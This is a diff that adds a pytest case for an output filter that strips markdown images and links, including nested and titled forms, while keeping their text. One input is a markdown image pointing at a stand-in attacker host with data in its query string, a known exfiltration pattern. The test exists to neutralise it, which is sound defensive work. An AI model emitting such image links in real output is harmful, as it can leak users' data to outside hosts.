@@ -42,3 +42,18 @@ async def test_arguments_of_tools_keep_terms_and_lose_claims() -> None:
     shown, refused = await gate(keeps_terms=True).judge(f"“{FALSE}” and “the Lessee owes nine thousand” [Lease.pdf, Page 3]")
     assert shown.startswith(f"{UNVERIFIED} and {UNVERIFIED}")
     assert len(refused) == 2
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("See ![the plan](https://evil.example/?q=rent) here.", "See the plan here."),
+        ("See [the plan](https://evil.example/a_(b) 'title') here.", "See the plan here."),
+        ("See [![the plan](https://a.example)](https://b.example) here.", "See the plan here."),
+        ("See [1](https://evil.example) and (this).", "See 1 and (this)."),
+        ("See [“ten”](https://evil.example '“ten”') and [![x](//a)](//b).", "See “ten” and x."),
+        ("A clause [of the lease] (as amended) stays.", "A clause [of the lease] (as amended) stays."),
+    ],
+)
+async def test_pictures_and_links_leave_their_text(written: str, shown: str) -> None:
+    assert (await gate().judge(written))[0] == shown
